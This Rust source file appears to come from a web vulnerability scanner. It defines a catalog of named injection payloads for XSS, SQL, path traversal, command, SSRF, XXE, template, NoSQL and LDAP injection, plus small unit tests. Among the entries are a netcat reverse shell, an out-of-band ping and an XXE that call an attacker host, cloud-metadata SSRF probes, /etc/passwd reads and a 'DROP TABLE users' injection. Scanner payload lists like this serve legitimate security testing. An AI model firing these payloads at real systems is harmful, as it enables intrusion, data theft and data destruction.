use serde::Serialize;
use std::fmt;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
pub enum VulnClass {
    Xss,
    Sqli,
    Lfi,
    Cmdi,
    Ssrf,
    Xxe,
    Ssti,
    Nosqli,
    Ldapi,
    Polyglot,
}

impl VulnClass {
    pub const ALL: [VulnClass; 10] = [
        VulnClass::Xss,
        VulnClass::Sqli,
        VulnClass::Lfi,
        VulnClass::Cmdi,
        VulnClass::Ssrf,
        VulnClass::Xxe,
        VulnClass::Ssti,
        VulnClass::Nosqli,
        VulnClass::Ldapi,
        VulnClass::Polyglot,
    ];

    pub fn as_str(&self) -> &'static str {
        match self {
            VulnClass::Xss => "XSS",
            VulnClass::Sqli => "SQLi",
            VulnClass::Lfi => "LFI",
            VulnClass::Cmdi => "CMDi",
            VulnClass::Ssrf => "SSRF",
            VulnClass::Xxe => "XXE",
            VulnClass::Ssti => "SSTI",
            VulnClass::Nosqli => "NoSQLi",
            VulnClass::Ldapi => "LDAPi",
            VulnClass::Polyglot => "Polyglot",
        }
    }

    pub fn parse(s: &str) -> Option<Self> {
        Self::ALL
            .iter()
            .copied()
            .find(|class| class.as_str().eq_ignore_ascii_case(s))
    }
}

impl fmt::Display for VulnClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Payload {
    pub name: &'static str,
    pub content: &'static str,
    pub class: VulnClass,
}

pub struct PayloadCatalog;

impl PayloadCatalog {
    const DEFAULT_PAYLOADS: &'static [(&'static str, &'static str, VulnClass)] = &[
        ("XSS Basic", "<script>alert(1)</script>", VulnClass::Xss),
        ("XSS IMG", "<img src=x onerror=alert(1)>", VulnClass::Xss),
        ("XSS SVG", "<svg onload=alert(1)>", VulnClass::Xss),
        ("XSS Body", "<body onload=alert(1)>", VulnClass::Xss),
        ("XSS Iframe", "<iframe onload=alert(1)></iframe>", VulnClass::Xss),
        ("XSS Input", "<input onfocus=alert(1) autofocus>", VulnClass::Xss),
        ("XSS Details", "<details ontoggle=alert(1)>", VulnClass::Xss),
        ("XSS Video", "<video src=x onerror=alert(1)>", VulnClass::Xss),
        ("XSS Audio", "<audio src=x onerror=alert(1)>", VulnClass::Xss),
        ("XSS Object", "<object data='javascript:alert(1)'>", VulnClass::Xss),
        ("XSS Link", "<a href='javascript:alert(1)'>click me</a>", VulnClass::Xss),
        ("XSS Meta", "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>", VulnClass::Xss),
        ("XSS Div", "<div onmouseover=alert(1)>hover me</div>", VulnClass::Xss),
        ("XSS Table", "<table background='javascript:alert(1)'>", VulnClass::Xss),
        ("XSS Style", "<style>@import 'javascript:alert(1)';</style>", VulnClass::Xss),
        ("XSS Generic Script", "\";alert(1)//", VulnClass::Xss),
        ("XSS Polyglot 1", "javascript://%250Aalert(1)//", VulnClass::Xss),
        ("XSS Polyglot 2", "<sCRipt>alert(1)</sCrIpT>", VulnClass::Xss),
        ("XSS Polyglot 3", "\"><script>alert(1)</script>", VulnClass::Xss),
        ("XSS Polyglot 4", "'><script>alert(1)</script>", VulnClass::Xss),
        ("XSS Angular", "{{$on.constructor('alert(1)')()}}", VulnClass::Xss),
        ("XSS Vue", "{{constructor.constructor('alert(1)')()}}", VulnClass::Xss),
        ("SQLi Auth Bypass 1", "' OR '1'='1", VulnClass::Sqli),
        ("SQLi Auth Bypass 2", "\" OR \"1\"=\"1", VulnClass::Sqli),
        ("SQLi Auth Bypass 3", "admin' --", VulnClass::Sqli),
        ("SQLi Auth Bypass 4", "admin' #", VulnClass::Sqli),
        ("SQLi Union Generic", "' UNION SELECT 1,2,3--", VulnClass::Sqli),
        ("SQLi Union MySQL", "' UNION SELECT 1,@@version,3--", VulnClass::Sqli),
        ("SQLi Union PostgreSQL", "' UNION SELECT 1,version(),3--", VulnClass::Sqli),
        ("SQLi Generic Error", "'", VulnClass::Sqli),
        ("SQLi Time MySQL", "' AND SLEEP(5)--", VulnClass::Sqli),
        ("SQLi Time PostgreSQL", "' AND 5=(SELECT 5 FROM pg_sleep(5))--", VulnClass::Sqli),
        ("SQLi Time MSSQL", "'; WAITFOR DELAY '0:0:5'--", VulnClass::Sqli),
        ("SQLi Stacked", "'; DROP TABLE users--", VulnClass::Sqli),
        ("SQLi Comment 1", "'/**/OR/**/1=1--", VulnClass::Sqli),
        ("SQLi Comment 2", "' OR 1=1#", VulnClass::Sqli),
        ("SQLi Hex Encoded", "0x27204f5220313d31", VulnClass::Sqli),
        ("LFI Basic Unix", "../../../../etc/passwd", VulnClass::Lfi),
        ("LFI Basic Windows", "..\\..\\..\\..\\windows\\win.ini", VulnClass::Lfi),
        ("LFI Null Byte", "../../../../etc/passwd%00", VulnClass::Lfi),
        ("LFI Wrapper PHP Filter", "php://filter/convert.base64-encode/resource=index.php", VulnClass::Lfi),
        ("LFI Wrapper PHP Input", "php://input", VulnClass::Lfi),
        ("LFI Wrapper ZIP", "zip://shell.jpg%23payload.php", VulnClass::Lfi),
        ("LFI Encoded 1", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", VulnClass::Lfi),
        ("LFI Encoded 2", "%252e%252e%252fetc%252fpasswd", VulnClass::Lfi),
        ("LFI UTF-8", "..\u{2215}..\u{2215}etc\u{2215}passwd", VulnClass::Lfi),
        ("LFI Proc Self", "/proc/self/environ", VulnClass::Lfi),
        ("LFI Boot.ini", "c:\\boot.ini", VulnClass::Lfi),
        ("CMDi Basic Unix 1", "; id", VulnClass::Cmdi),
        ("CMDi Basic Unix 2", "; cat /etc/passwd", VulnClass::Cmdi),
        ("CMDi Basic Windows 1", "& dir", VulnClass::Cmdi),
        ("CMDi Basic Windows 2", "& ipconfig", VulnClass::Cmdi),
        ("CMDi Pipe", "| whoami", VulnClass::Cmdi),
        ("CMDi Backtick", "`whoami`", VulnClass::Cmdi),
        ("CMDi Substitution", "$(whoami)", VulnClass::Cmdi),
        ("CMDi Netcat Reverse", "; nc -e /bin/sh 10.0.0.1 1234", VulnClass::Cmdi),
        ("CMDi Python", "; python -c 'import socket...'", VulnClass::Cmdi),
        ("CMDi Timeout", "; sleep 5", VulnClass::Cmdi),
        ("CMDi OOB DNS", "; ping -c 1 attacker.com", VulnClass::Cmdi),
        ("SSRF Localhost 1", "http://localhost", VulnClass::Ssrf),
        ("SSRF Localhost 2", "http://127.0.0.1", VulnClass::Ssrf),
        ("SSRF Localhost 3", "http://0.0.0.0", VulnClass::Ssrf),
        ("SSRF Localhost 4", "http://[::1]", VulnClass::Ssrf),
        ("SSRF AWS Meta", "http://169.254.169.254/latest/meta-data/", VulnClass::Ssrf),
        ("SSRF GCP Meta", "http://metadata.google.internal/computeMetadata/v1/", VulnClass::Ssrf),
        ("SSRF Azure Meta", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", VulnClass::Ssrf),
        ("SSRF Oracle Meta", "http://192.0.0.192/latest/", VulnClass::Ssrf),
        ("SSRF DigitalOcean Meta", "http://169.254.169.254/metadata/v1.json", VulnClass::Ssrf),
        ("SSRF File Scheme", "file:///etc/passwd", VulnClass::Ssrf),
        ("SSRF Gopher", "gopher://localhost:6379/_SLAVEOF...", VulnClass::Ssrf),
        ("SSRF Dict", "dict://localhost:11211/stat", VulnClass::Ssrf),
        ("XXE Basic", "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", VulnClass::Xxe),
        ("XXE Billion Laughs", "<!DOCTYPE lolz [<!ENTITY lol \"lol\">...]>", VulnClass::Xxe),
        ("XXE OOB", "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://attacker.com/evil.dtd\"> %xxe;]>", VulnClass::Xxe),
        ("XXE SVG", "<svg xmlns=\"http://www.w3.org/2000/svg\"...>", VulnClass::Xxe),
        ("SSTI Jinja2 Basic", "{{7*7}}", VulnClass::Ssti),
        ("SSTI Jinja2 Config", "{{config.items()}}", VulnClass::Ssti),
        ("SSTI Java EL", "${7*7}", VulnClass::Ssti),
        ("SSTI Freemarker", "${7*7}", VulnClass::Ssti),
        ("SSTI Velocity", "#set($x=7*7)${x}", VulnClass::Ssti),
        ("SSTI Twig", "{{7*'7'}}", VulnClass::Ssti),
        ("NoSQL NE q", "{\"$ne\": null}", VulnClass::Nosqli),
        ("NoSQL GT q", "{\"$gt\": \"\"}", VulnClass::Nosqli),
        ("NoSQL Where", "{\"$where\": \"sleep(5000)\"}", VulnClass::Nosqli),
        ("NoSQL Regex", "{\"$regex\": \".*\"}", VulnClass::Nosqli),
        ("NoSQL Or", "{\"$or\": [1,1]}", VulnClass::Nosqli),
        ("LDAP Search All", "*", VulnClass::Ldapi),
        ("LDAP Admin", "admin*)((|user=password", VulnClass::Ldapi),
        ("LDAP Null", "admin*)((|user=*", VulnClass::Ldapi),
        ("Polyglot XSS/SQLi", "\"'><script>alert(1)</script> OR 1=1--", VulnClass::Polyglot),
        ("Polyglot Generic", "javascript:/*--></title></style></textarea></script><script>alert(1)//", VulnClass::Polyglot),
    ];

    pub fn default_payloads() -> Vec<Payload> {
        Self::DEFAULT_PAYLOADS
            .iter()
            .map(|&(name, content, class)| Payload { name, content, class })
            .collect()
    }

    pub fn by_class(class: VulnClass) -> Vec<Payload> {
        Self::default_payloads()
            .into_iter()
            .filter(|p| p.class == class)
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_default_payloads_are_well_formed() {
        let payloads = PayloadCatalog::default_payloads();
        assert!(!payloads.is_empty());
        for p in &payloads {
            assert!(!p.name.is_empty(), "empty name: {:?}", p);
            assert!(!p.content.is_empty(), "empty content: {:?}", p);
        }
    }

    #[test]
    fn test_every_class_is_covered() {
        for class in VulnClass::ALL {
            assert!(!PayloadCatalog::by_class(class).is_empty(), "no payloads for {}", class);
        }
    }

    #[test]
    fn test_class_parse() {
        assert_eq!(VulnClass::parse("sqli"), Some(VulnClass::Sqli));
        assert_eq!(VulnClass::parse("NoSQLi"), Some(VulnClass::Nosqli));
        assert_eq!(VulnClass::parse("rce"), None);
    }
}
